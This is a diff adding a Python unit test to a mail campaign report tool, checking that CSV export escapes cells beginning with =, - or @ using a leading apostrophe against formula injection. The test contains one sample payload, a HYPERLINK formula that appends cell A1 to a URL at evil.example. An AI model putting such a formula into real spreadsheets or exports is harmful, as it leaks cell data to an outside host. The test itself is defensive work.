@@ -237,3 +237,22 @@ def test_each_drip_counts_only_its_own_campaigns_and_the_funnel_reads_the_lead_r
         start=dt.date(2024, 5, 2),
     )
     assert may_second.sections[0].rows[0].recipients == 5
+
+
+def test_the_csv_keeps_text_that_starts_like_a_formula_as_text():
+    """A campaign (or email) named =HYPERLINK(…) is written with OWASP's leading apostrophe: a spreadsheet shows it and
+    runs nothing; numbers and ordinary names are written as they are."""
+    from mailpipe.report import Report, Row, Section
+
+    evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    report = Report(
+        None,
+        None,
+        (
+            Section(evil, "e1", "drip", (Row("-1 step", "@email", campaigns=2, recipients=10),)),
+            Section("Monthly specials", "m1", "monthly", (Row("2024-05", "specials-2024-05", recipients=3),)),
+        ),
+    )
+    rows = list(csv.reader(io.StringIO(report.as_csv())))
+    assert rows[1][:5] == ["'" + evil, "'-1 step", "'@email", "2", "10"]
+    assert rows[2][:5] == ["Monthly specials", "2024-05", "specials-2024-05", "0", "3"]
